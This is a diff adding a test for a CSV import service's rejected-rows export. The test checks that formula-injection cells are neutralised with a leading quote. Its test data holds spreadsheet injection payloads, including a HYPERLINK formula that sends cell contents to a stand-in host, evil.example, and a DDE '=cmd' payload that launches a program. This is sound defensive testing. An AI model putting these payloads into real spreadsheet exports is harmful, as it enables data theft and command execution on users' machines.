@@ -138,3 +138,24 @@ describe("GET /v1/imports: a key limited to stores sees only its own imports", (
     expect(res.headers.get("www-authenticate")).toBe('Bearer realm="shelfwatch"');
   });
 });
+
+describe("GET /v1/imports/:id/rejected.csv: formula injection (issue 16)", () => {
+  it("hands back no cell a spreadsheet would run as a formula, and leaves plain numbers usable", async () => {
+    const { chainKey } = await seedStoresAndKeys(ctx);
+    const file =
+      "store,sku,on_hand,name,=1+2\n" +
+      'S99,000123,-3,"=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",@SUM(1+1)\n' +
+      "S12,=cmd|' /C calc'!A0,abc,+1+1,-2+3\n" +
+      'S12,000125,x,"\t=1+1","\r=2+2"\n';
+    const report = await importCsv(ctx, chainKey, file);
+    expect(report.rowsRejected).toBe(3);
+    const res = await getWithKey(ctx, chainKey, `/v1/imports/${report.batchId}/rejected.csv`);
+    expect(res.status).toBe(200);
+    const lines = (await res.text()).split("\r\n");
+    expect(lines[0]).toBe(`store,sku,on_hand,name,"'=1+2",shelfwatch_error`);
+    // each such cell starts with a quote, which a spreadsheet shows as text; -3 stays a number
+    expect(lines[1]).toMatch(/^S99,000123,-3,"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&A1,""Click""\)","'@SUM\(1\+1\)","line 2: /);
+    expect(lines[2]).toMatch(/^S12,"'=cmd\|' \/C calc'!A0",abc,"'\+1\+1","'-2\+3","line 3: /);
+    expect(lines[3]).toMatch(/^S12,000125,x,"'\t=1\+1","'\r=2\+2","line 4: /);
+  });
+});
